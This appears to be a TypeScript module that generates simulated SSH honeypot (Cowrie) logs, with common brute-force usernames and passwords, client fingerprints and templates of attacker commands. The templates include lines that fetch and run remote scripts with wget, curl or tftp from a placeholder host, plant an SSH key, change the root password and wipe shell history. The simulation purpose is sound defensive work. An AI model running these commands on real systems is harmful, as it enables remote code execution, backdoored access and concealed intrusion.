// What simulated attackers are made of: names, passwords, clients, addresses and command lines.
import { createHash } from 'node:crypto';
import type { Random } from './random.ts';

export const USERNAMES =
  'root admin ubuntu user test oracle postgres guest git ftpuser pi debian deploy hadoop mysql support ec2-user steam minecraft jenkins nagios tomcat www dev administrator es elastic sol node ubnt centos docker odoo gitlab ansible vagrant zabbix teamspeak nginx backup ftp svn weblogic kafka sa'.split(
    ' ',
  );
export const PASSWORDS =
  '123456 password admin root 1234 12345 123 12345678 123456789 1 test qwerty P@ssw0rd admin123 root123 ubuntu Passw0rd 1qaz2wsx abc123 111111 000000 user toor Password1 welcome changeme raspberry oracle postgres support guest server Huawei@123 qwe123 123qwe 1q2w3e4r 1234567890 654321 666666 888888 password123 admin@123 root@123 test123 master dragon letmein default ubnt !QAZ2wsx zaq12wsx'.split(
    ' ',
  );
const SYLLABLES = 'ka ro mi ten sa lo ver dan jo al ex bo chi ra pu ne vi ol an ma tu sho ri ha'.split(' ');

export function word(random: Random, syllables: number): string {
  let text = '';
  for (let i = 0; i < syllables; i++) text += random.pick(SYLLABLES);
  return text;
}

export const madeUpName = (random: Random): string =>
  word(random, 2 + random.below(2)) + (random.chance(0.3) ? random.below(100) : '');

export function madeUpPassword(random: Random): string {
  const kind = random.unit();
  if (kind < 0.5) return word(random, 2) + random.below(10_000);
  return kind < 0.75 ? `${word(random, 2)}@${1990 + random.below(40)}` : random.token(7 + random.below(6));
}

/** A client with its key exchange, as two fragments of JSON. */
export interface Client {
  version: string;
  hassh: string;
  /** Of `cowrie.client.version` and `cowrie.client.kex`, up to the fields that every event has. */
  lines: [version: string, kex: string];
}

const ALGORITHMS = {
  kex: 'curve25519-sha256 curve25519-sha256@libssh.org ecdh-sha2-nistp256 ecdh-sha2-nistp384 ecdh-sha2-nistp521 diffie-hellman-group-exchange-sha256 diffie-hellman-group14-sha256 diffie-hellman-group14-sha1 diffie-hellman-group1-sha1',
  enc: 'aes128-gcm@openssh.com aes256-gcm@openssh.com chacha20-poly1305@openssh.com aes128-ctr aes192-ctr aes256-ctr aes128-cbc 3des-cbc',
  mac: 'hmac-sha2-256-etm@openssh.com hmac-sha2-512-etm@openssh.com hmac-sha2-256 hmac-sha2-512 hmac-sha1 hmac-sha1-96 hmac-md5',
};
const VERSIONS =
  'Go|libssh2_1.4.3|libssh_0.9.6|libssh-0.6.3|OpenSSH_7.4|PUTTY|paramiko_2.8.1|JSCH-0.1.54|OpenSSH_8.9p1 Ubuntu-3|AsyncSSH_2.1.0|ZGrab ZGrab SSH Survey|Nmap-SSH2-Hostkey|libssh2_1.11.0|russh_0.44.0'.split(
    '|',
  );

export function clientOf(random: Random, version = madeUpVersion(random)): Client {
  const some = (names: string): string[] => {
    const chosen = names.split(' ').filter(() => random.chance(0.65));
    return chosen.length > 0 ? chosen : [names.split(' ')[0]!];
  };
  const [kex, enc, mac] = [some(ALGORITHMS.kex), some(ALGORITHMS.enc), some(ALGORITHMS.mac)];
  const algorithms = [kex, enc, mac, ['none']].map((list) => list.join(',')).join(';');
  const hassh = createHash('md5').update(algorithms).digest('hex');
  return {
    version,
    hassh,
    lines: [
      `"eventid":"cowrie.client.version","version":${JSON.stringify(version)},"message":${JSON.stringify(`Remote SSH version: ${version}`)}`,
      `"eventid":"cowrie.client.kex","hassh":"${hassh}","hasshAlgorithms":"${algorithms}","kexAlgs":${JSON.stringify(kex)},"keyAlgs":["ssh-ed25519","ssh-rsa"],"encCS":${JSON.stringify(enc)},"macCS":${JSON.stringify(mac)},"compCS":["none"],"langCS":[""],"message":"SSH client hassh fingerprint: ${hassh}"`,
    ],
  };
}

function madeUpVersion(random: Random): string {
  const kind = random.unit();
  if (kind < 0.4)
    return `SSH-2.0-OpenSSH_${5 + random.below(5)}.${random.below(10)}p1 ${word(random, 2)}-${random.below(20)}`;
  if (kind < 0.7) return `SSH-2.0-libssh2_1.${random.below(12)}.${random.below(40)}`;
  return `SSH-2.0-paramiko_${1 + random.below(3)}.${random.below(20)}.${random.below(40)}`;
}

/** The clients that many share, the most frequent first. */
export const commonClients = (random: Random, size: number): Client[] =>
  Array.from({ length: size }, (_, i) =>
    clientOf(random, i < VERSIONS.length ? `SSH-2.0-${VERSIONS[i]}` : madeUpVersion(random)),
  );

/** The first two numbers of public addresses. */
export function network(random: Random): string {
  for (;;) {
    const [a, b] = [1 + random.below(222), random.below(256)];
    if (![10, 100, 127, 169, 172, 192, 198, 203].includes(a)) return `${a}.${b}`;
  }
}

export const addressIn = (random: Random, net: string): string =>
  `${net}.${random.below(256)}.${1 + random.below(254)}`;

/**
 * Lines that attackers type. In braces what differs from session to session: `{ip}` an address of the attacker's
 * host, `{token}`, `{hex}`, `{WORD}`, `{number}`, `{password}`; `{name}` and `{key}` are the campaign's own.
 */
const LINES = [
  'uname -s -v -n -r -m',
  'uname -a',
  'cat /proc/cpuinfo | grep name | wc -l',
  "free -m | grep Mem | awk '{print $2 ,$3, $4, $5, $6, $7}'",
  'ls -lh $(which ls)',
  'crontab -l',
  'w',
  'lscpu | grep Model',
  "df -h | head -n 2 | awk 'FNR == 2 {print $2;}'",
  'cd ~; chattr -ia .ssh; lockr -ia .ssh',
  'echo "root:{password}"|chpasswd|bash',
  'nproc; uptime; id',
  'export HISTFILE=/dev/null; history -c',
  'cat /etc/os-release | head -{number}',
  'ps aux | grep {name} | grep -v grep',
  'pkill -9 {name}; rm -rf /tmp/{name}*',
  'mkdir -p /var/tmp/.{name} && cd /var/tmp/.{name}',
  'echo {hex} > /tmp/.{token}; rm /tmp/.{token}',
  '/bin/busybox {WORD}',
  'cat /proc/mounts; /bin/busybox {WORD}',
  'dd bs=52 count=1 if=.{name} || cat .{name}',
  'iptables -I INPUT -p tcp --dport {number} -j DROP',
  'nohup ./{name} -o {ip}:{number} -u {token} &',
  'test -x /usr/bin/{name} && echo {token}',
  "grep -c '{name}' /etc/passwd",
  'netstat -tnp | grep {ip}',
  'curl -s http://{ip}/ping/{token}',
  'lspci | grep -i vga | cut -f5- -d " "',
];
const FETCHES = [
  'cd /tmp || cd /var/run || cd /; wget http://{ip}/{name}.sh; chmod 777 {name}.sh; sh {name}.sh; rm -rf {name}.sh',
  'cd /dev/shm; curl -O http://{ip}/{name}/{token}; chmod +x {token}; ./{token} {name}',
  'wget -q -O- http://{ip}:{number}/{name} | sh -s {token}',
  'tftp -g -r {name} {ip}; sh {name}',
];
const KEY_LINE =
  'cd ~ && rm -rf .ssh && mkdir .ssh && echo "{key}">>.ssh/authorized_keys && chmod -R go= ~/.ssh && cd ~';

/** A script as one campaign's: a few lines in an order of its own. */
export function scriptOf(random: Random, lines: number, { key = false, fetch = false } = {}): string[] {
  const chosen = LINES.map((line) => ({ line, at: random.unit() }))
    .sort((a, b) => a.at - b.at)
    .slice(0, lines)
    .map(({ line }) => line);
  if (key) chosen.splice(1, 0, KEY_LINE);
  if (fetch) chosen.push(random.pick(FETCHES));
  return chosen;
}

export interface Own {
  name: string;
  key: string;
  /** Addresses that files are fetched from. */
  hosts: readonly string[];
}

/** A line as it is typed this once. `host`: what `{ip}` was, in this session. */
export function filled(line: string, random: Random, own: Own, host: string, token: string): string {
  if (!line.includes('{')) return line;
  return line.replace(/\{(ip|token|hex|WORD|number|password|name|key)\}/g, (_, what: string) => {
    switch (what) {
      case 'ip':
        return host;
      case 'token':
        return token;
      case 'hex':
        return random.hex(24);
      case 'WORD':
        return random.token(6, 'ABCDEFGHIJKLMNOPQRSTUVWXYZ');
      case 'number':
        return String(10 + random.below(60_000));
      case 'password':
        return random.token(12);
      case 'name':
        return own.name;
      default:
        return own.key;
    }
  });
}

export const keyOf = (random: Random): string =>
  `ssh-rsa AAAAB3NzaC1yc2EAAAADAQABAAABAQ${random.token(120)}== ${word(random, 2)}`;
